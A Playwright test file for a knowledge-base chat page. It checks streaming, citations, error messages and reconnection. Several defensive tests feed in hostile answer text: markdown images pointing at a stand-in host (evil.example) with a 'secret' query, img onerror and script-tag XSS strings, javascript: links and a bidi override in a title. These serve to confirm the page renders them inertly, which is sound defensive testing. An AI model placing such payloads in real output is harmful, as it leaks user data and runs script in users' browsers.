"""The page with frames that a real answer seldom has: hostile, broken, cut off."""

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route, expect

from browser.pages import ask, open_browser, open_page
from browser.scripted import answer, citation, events, script, source, stream
from stack import Stack


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with open_browser() as chromium:
        yield chromium


@pytest.fixture(scope="module")
def context(browser: Browser) -> Iterator[BrowserContext]:
    # Sources from elsewhere, as if there were no policy: the page itself must not ask for them.
    context = browser.new_context(locale="en-US", bypass_csp=True)
    yield context
    context.close()


@pytest.fixture
def page(context: BrowserContext, stack: Stack) -> Iterator[Page]:
    page = open_page(context, stack)
    yield page
    page.close()


def test_i01_enter_while_an_input_method_composes_does_not_send(page: Page) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.method))
    page.locator("#question").fill("ni hao")

    page.evaluate("""() => {
      const always = { key: "Enter", bubbles: true, cancelable: true };
      const enter = (fields) => new KeyboardEvent("keydown", { ...always, ...fields });
      const box = document.getElementById("question");
      box.dispatchEvent(enter({ isComposing: true }));
      box.dispatchEvent(enter({ keyCode: 229 }));
    }""")

    assert page.locator("#question").input_value() == "ni hao"
    expect(page.locator(".turn")).to_have_count(0)
    assert asked == []


def test_h02_an_image_in_an_answer_is_text_and_nothing_is_loaded(page: Page) -> None:
    text = "Look: ![x](https://evil.example/?q=secret)"
    loaded: list[str] = []
    page.on("request", lambda request: loaded.append(request.url))
    script(page, answer(text, []))

    ask(page, "Anything?")

    expect(page.locator(".answer")).to_have_text(text)
    assert not [url for url in loaded if "evil" in url]


def test_h02_no_spelling_of_an_image_in_a_streamed_answer_loads_anything(page: Page) -> None:
    spellings = [
        "[![one](https://evil.example/a.png)](https://example.org)",
        "![two][ref]",
        "[ref]: https://evil.example/b.png",
        "![three](<https://evil.example/c.png> 'title')",
        "![four](//evil.example/d.png)",
    ]
    loaded: list[str] = []
    page.on("request", lambda request: loaded.append(request.url))
    script(page, answer([*"\n\n".join(spellings)], []))

    ask(page, "Anything?")

    expect(page.locator(".answer")).to_contain_text("![four](//evil.example/d.png)")
    expect(page.locator(".answer img")).to_have_count(0)
    assert not [url for url in loaded if "evil" in url]


def test_h02_a_reference_cannot_turn_the_numbers_of_sources_into_links(page: Page) -> None:
    text = "Yes [1].\n\n[1]: https://evil.example"
    script(page, answer(text, [source(1)], citations=[citation(text, source(1), "text")]))

    ask(page, "Anything?")

    expect(page.locator(".answer button.cite").first).to_have_text("[1]")
    expect(page.locator(".answer a")).to_have_text(["https://evil.example"])


def test_h04_html_in_an_answer_is_text(page: Page) -> None:
    text = 'Hi <img src=x onerror="window.hit=1"> <script>window.hit=1</script> [a](javascript:window.hit=1)'
    script(page, answer(text, []))

    ask(page, "Anything?")

    expect(page.locator(".answer")).to_have_text(text)
    expect(page.locator(".answer :is(img, script, a)")).to_have_count(0)
    assert page.evaluate("window.hit") is None


def test_h04_html_in_a_title_and_a_source_is_text(page: Page) -> None:
    title = '"><img src=x onerror="window.hit=1">'
    text = "<script>window.hit=1</script><b>bold</b>"
    script(page, answer("Yes [1].", [source(1, text, title=title)]))
    ask(page, "Anything?")

    page.locator(".card").click()

    expect(page.locator(".card-title")).to_have_text(title)
    expect(page.locator("#passage-title")).to_have_text(f"1 · {title}")
    expect(page.locator(".source-text")).to_have_text(text)
    assert page.evaluate("window.hit") is None


def test_i06_an_answer_that_looks_like_a_tag_is_seen(page: Page) -> None:
    script(page, answer("<abc>", []))

    ask(page, "Anything?")

    expect(page.locator(".answer")).to_have_text("<abc>")


def test_links_lead_to_the_web_only_and_give_nothing_away(page: Page) -> None:
    script(page, answer("[a](https://example.org/x) [b](data:text/html,x) [c](/v1/me)", []))

    ask(page, "Anything?")

    links = page.locator(".answer a")
    expect(links).to_have_count(1)
    expect(links).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(links).to_have_attribute("target", "_blank")


def test_c01_a_number_that_no_source_has_is_broken(page: Page) -> None:
    script(page, answer("Yes [5][7].", [source(1)], dangling_citations=[5, 7]))

    ask(page, "Anything?")

    expect(page.locator(".answer")).to_have_text("Yes [5][7].")
    expect(page.locator(".cite-broken")).to_have_count(2)
    expect(page.locator("button.cite")).to_have_count(0)
    expect(page.locator(".turn-foot")).to_contain_text("5, 7")


def test_c04_an_index_and_a_year_are_plain_text(page: Page) -> None:
    text = "In [2024] arr[1] and `x[1]`, but [1]."
    cited = source(1, "A fact.")
    entry = citation(text, cited, "A fact.", answer_start=text.rindex("[1]"), answer_end=text.rindex("[1]") + 3)
    script(page, answer(text, [cited], citations=[entry]))

    ask(page, "Anything?")

    expect(page.locator(".answer button.cite")).to_have_count(1)
    expect(page.locator(".answer")).to_have_text("In [2024] arr[1] and x[1], but [1].")


def test_c12_a_number_opens_the_source_of_that_number(page: Page) -> None:
    sources = [source(1, "First."), source(2, "Second."), source(3, "Third.")]
    script(page, answer("Yes [2].", sources, citations=[citation("Yes [2].", sources[1], "Second.")]))
    ask(page, "Anything?")

    page.locator("button.cite").click()

    expect(page.locator("#passage-title")).to_have_text("2 · Title 2")
    expect(page.locator("#passage mark")).to_have_text("Second.")
    expect(page.locator(".is-cited .card-number")).to_have_text("2")


def test_c21_an_answer_without_citations_says_so(page: Page) -> None:
    script(page, answer("Hello.", [source(1), source(2), source(3)]))

    ask(page, "Anything?")

    expect(page.locator(".turn-foot")).to_contain_text("No source cited.")
    expect(page.locator(".is-cited")).to_have_count(0)


def test_d03_a_printed_page_label_is_told_with_its_physical_page(page: Page) -> None:
    cited = source(1, "A fact.", pages=[{"number": 3, "label": "iii", "start": 0, "end": 200}])
    entry = citation("Yes [1].", cited, "A fact.", page=3, page_label="iii")
    script(page, answer("Yes [1].", [cited], citations=[entry]))
    ask(page, "Anything?")

    page.locator("button.cite").click()

    expect(page.locator("#passage-meta")).to_contain_text("p. iii (page 3 of the file)")


def test_d07_a_quote_over_a_line_break_is_one_region(page: Page) -> None:
    cited = source(1, "Before. It was long-\nwinded, they said. After.")
    entry = citation("Yes [1].", cited, "It was long-\nwinded, they said.")
    script(page, answer("Yes [1].", [cited], citations=[entry]))
    ask(page, "Anything?")

    page.locator("button.cite").click()

    marks = page.locator("#passage mark")
    assert marks.evaluate_all("nodes => nodes.map((node) => node.textContent)") == ["It was long-\nwinded, they said."]


def test_d07_a_quote_that_is_not_in_its_source_marks_nothing(page: Page) -> None:
    cited = source(1, "A fact.")
    script(page, answer("Yes [1].", [cited], citations=[citation("Yes [1].", cited, "An invention.")]))
    ask(page, "Anything?")

    page.locator("button.cite").click()

    expect(page.locator("#passage")).to_contain_text("not found in the source")
    expect(page.locator("#passage mark")).to_have_count(0)


def test_d08_a_source_without_pages_names_none(page: Page) -> None:
    script(page, answer("Yes [1].", [source(1)]))

    ask(page, "Anything?")

    expect(page.locator(".card-meta")).not_to_contain_text("p. ")


def test_offsets_count_code_points_in_the_answer_and_in_the_source(page: Page) -> None:
    text = "😀𝐀 **yes**[1] 😀"
    cited = source(1, "😀😀 A fact 𝐀. More.")
    script(page, answer(text, [cited], citations=[citation(text, cited, "A fact 𝐀.")]))
    ask(page, "Anything?")

    page.locator("button.cite").click()

    expect(page.locator(".answer")).to_have_text("😀𝐀 yes[1] 😀")
    assert page.locator("#passage mark").evaluate("node => node.textContent") == "A fact 𝐀."


def test_i05_a_source_without_title_is_called_by_file_then_by_knowledge_base(page: Page) -> None:
    script(page, answer("Yes.", [source(1, title=""), source(2, title="", file_name="", kb_id="gone")]))

    ask(page, "Anything?")

    expect(page.locator(".card-title")).to_have_text(["file-1.md", "gone #2"])


def test_g06_a_title_cannot_turn_the_text_around_it(page: Page) -> None:
    script(page, answer("Yes.", [source(1, title="a\u202eb")]))

    ask(page, "Anything?")

    assert page.locator(".card-title").evaluate("node => getComputedStyle(node).unicodeBidi") == "isolate"


def test_a15_spaces_at_the_ends_of_deltas_stay(page: Page) -> None:
    script(page, answer(["###", " **2. Title"], []))

    ask(page, "Anything?")

    expect(page.locator(".answer h5")).to_have_text("**2. Title")


@pytest.mark.parametrize(
    ("done", "told"),
    [
        ({"status": "stopped"}, "Stopped."),
        ({"status": "incomplete", "degraded": "the model broke off"}, "the model broke off"),
        ({"quality": {"level": "weak", "reason": "Few terms match."}}, "Few terms match."),
        ({"persisted": False}, "Not stored yet"),
        (
            {"legs": [{"kb_id": "x", "leg": "dense", "hits": 0, "elapsed_ms": 0, "skipped": None, "error": "timeout"}]},
            "timeout",
        ),
    ],
)
def test_what_limits_an_answer_is_told(page: Page, done: dict[str, object], told: str) -> None:
    script(page, answer("Some text.", [], **done))

    ask(page, "Anything?")

    expect(page.locator(".turn-foot .notice").filter(has_text=told)).to_have_count(1)


def test_a_refused_question_goes_back_into_the_box(page: Page) -> None:
    problem = '{"type": "busy", "title": "Too many questions", "status": 429}'
    headers = {"Content-Type": "application/problem+json", "Retry-After": "7"}
    page.route("**/v1/questions", lambda route: route.fulfill(status=429, headers=headers, body=problem))

    page.locator("#question").fill("Anything?")
    page.keyboard.press("Enter")

    expect(page.locator("#problem")).to_have_text("Too many questions Try again in 7 seconds.")
    expect(page.locator("#question")).to_have_value("Anything?")


@pytest.mark.parametrize(
    ("status", "kind", "told"),
    [
        (429, "too-many-questions", "You are asking faster than allowed. Try again in 7 seconds."),
        (
            429,
            "too-many-running",
            "Too many of your questions are being answered at the same time. Try again in 7 seconds.",
        ),
        (503, "overloaded", "The server is busy and did not take the question. Try again in 7 seconds."),
    ],
)
def test_j02_a_limit_is_told_in_the_words_of_the_page(page: Page, status: int, kind: str, told: str) -> None:
    problem = json.dumps({"type": kind, "title": "Refused", "status": status, "retry_after": 7})
    headers = {"Content-Type": "application/problem+json", "Retry-After": "7"}
    page.route("**/v1/questions", lambda route: route.fulfill(status=status, headers=headers, body=problem))

    page.locator("#question").fill("Anything?")
    page.keyboard.press("Enter")

    expect(page.locator("#problem")).to_have_text(told)


def test_a_failed_answer_can_be_asked_again(page: Page) -> None:
    failed = [("error", {"type": "answer-failed", "title": "Failed", "status": 500, "detail": "the disk is full"})]
    page.route("**/v1/questions", lambda route: stream(route, events(failed)), times=1)
    ask(page, "Anything?")
    expect(page.locator(".turn-foot")).to_contain_text("the disk is full")
    script(page, answer("Now it works.", []))

    page.get_by_role("button", name="Ask again").click()

    expect(page.locator(".turn").last.locator(".answer")).to_have_text("Now it works.")


def test_a05_a_lost_connection_goes_on_after_the_last_frame_and_never_asks_again(page: Page) -> None:
    frames = answer([f"word{number} " for number in range(20)], [])
    asked: list[str] = []
    resumed: list[str | None] = []

    def first_part(route: Route) -> None:
        asked.append(route.request.method)
        stream(route, events(frames[:8]))

    def next_part(route: Route) -> None:
        last = route.request.headers.get("last-event-id")
        resumed.append(last)
        number = int(last or 0)
        stream(route, events(frames[number : number + 8], number + 1))

    page.route("**/v1/questions", first_part)
    page.route("**/v1/questions/*/events", next_part)

    ask(page, "Anything?")

    expect(page.locator(".answer")).to_have_text(" ".join(f"word{number}" for number in range(20)))
    assert asked == ["POST"]
    assert resumed == ["8", "16"]


def test_a08_a_reload_shows_the_whole_answer(page: Page) -> None:
    frames = answer(["one ", "two ", "three"], [source(1)])
    page.route("**/v1/questions", lambda route: stream(route, events(frames[:2])))
    page.route("**/v1/questions/*/events", lambda route: route.abort())
    page.locator("#question").fill("Anything?")
    page.keyboard.press("Enter")
    expect(page.locator(".answer")).to_have_text("one")
    page.unroute("**/v1/questions/*/events")
    page.route("**/v1/questions/*/events", lambda route: stream(route, events(frames)))

    page.reload()

    expect(page.locator(".answer")).to_have_text("one two three")
    expect(page.locator(".question")).to_have_text("Anything?")
    expect(page.locator(".card")).to_have_count(1)


def test_stop_reaches_the_server(page: Page) -> None:
    stopped: list[str] = []
    frames = answer("Some text.", [], status="stopped")

    def rest(route: Route) -> None:
        stream(route, events(frames[2:], 3) if stopped else ": still running\n\n")

    def stop(route: Route) -> None:
        stopped.append(route.request.headers["x-csrf-token"])
        route.fulfill(status=202, body="{}")

    page.route("**/v1/questions", lambda route: stream(route, events(frames[:2])))
    page.route("**/v1/questions/*/events", rest)
    page.route("**/v1/questions/*/stop", stop)
    page.locator("#question").fill("Anything?")
    page.keyboard.press("Enter")

    page.get_by_role("button", name="Stop").click()

    expect(page.locator(".turn-foot")).to_contain_text("Stopped.")
    assert len(stopped) == 1


def test_i03_a_long_answer_costs_less_than_a_frame(page: Page) -> None:
    mean = page.evaluate("""async () => {
      const { Answer } = await import("/assets/answer.js");
      const answer = new Answer(() => {});
      document.getElementById("turns").append(answer.element);
      answer.start(new Map());
      const spent = [];
      for (let delta = 0; delta < 2500; delta += 10) {
        await new Promise((resolve) => {
          let start;
          requestAnimationFrame(() => (start = performance.now()));
          for (let part = 0; part < 10; part += 1) {
            answer.append((delta + part) % 60 === 59 ? "end.\\n\\n" : "ten chars ");
          }
          requestAnimationFrame(() => { spent.push(performance.now() - start); resolve(); });
        });
      }
      return spent.reduce((sum, one) => sum + one, 0) / spent.length;
    }""")

    assert mean < 16


def test_both_languages_say_the_same_things(page: Page) -> None:
    keys = page.evaluate("""async () => {
      const { TEXTS } = await import("/assets/texts.js");
      return Object.values(TEXTS).map((texts) => Object.keys(texts).sort());
    }""")

    assert keys[0] == keys[1]


def test_the_page_speaks_the_browsers_language_and_switches(browser: Browser, stack: Stack) -> None:
    context = browser.new_context(locale="zh-CN")
    page = open_page(context, stack)
    expect(page.locator("#welcome h2")).to_have_text("向知识库提问")

    page.locator("#language").click()

    expect(page.locator("#welcome h2")).to_have_text("Ask your knowledge bases")
    context.close()


def test_a_narrow_phone_never_scrolls_sideways(browser: Browser, stack: Stack) -> None:
    context = browser.new_context(locale="en-US", viewport={"width": 320, "height": 600})
    page = open_page(context, stack)
    wide = "| a | b |\n|---|---|\n| " + "wide " * 30 + "| x |\n\n" + "long" * 60
    script(page, answer(wide, [source(number) for number in range(1, 9)]))

    ask(page, "W" * 100)

    assert page.evaluate("document.documentElement.scrollWidth") <= 320
    context.close()
